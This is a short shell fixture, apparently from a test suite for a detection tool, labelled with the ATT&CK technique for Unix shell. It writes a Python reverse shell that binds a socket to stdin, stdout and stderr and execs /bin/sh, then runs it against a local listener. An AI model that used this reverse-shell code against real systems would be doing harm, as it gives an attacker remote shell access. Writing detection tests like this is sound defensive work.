# expects: high T1059.004
. "$STAGE/act.sh"
# No telling command line: only the socket at both ends of the shell gives it away.
STAGE_TALK=$'id\nexit\n' listen
cat > /srv/connect.py <<'PY'
import os, socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
os.execv('/bin/sh', ['sh'])
PY
timeout 5 python3 /srv/connect.py "$port"
wait $listener
